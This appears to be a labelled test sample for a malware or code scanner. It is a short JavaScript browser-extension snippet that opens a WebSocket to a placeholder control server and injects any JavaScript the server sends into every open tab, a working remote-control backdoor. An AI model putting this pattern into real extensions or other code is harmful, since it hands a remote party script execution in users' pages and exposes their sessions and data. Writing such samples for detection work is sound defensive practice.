var ws = new WebSocket('wss://control.example.net/agent');
ws.onmessage = function (ev) {
  var cmd = JSON.parse(ev.data);
  if (cmd.type === 'js') {
    chrome.tabs.query({}, function (tabs) {
      // expect: remote-code
      tabs.forEach(function (t) { chrome.tabs.executeScript(t.id, { code: cmd.js }); });
    });
  }
};
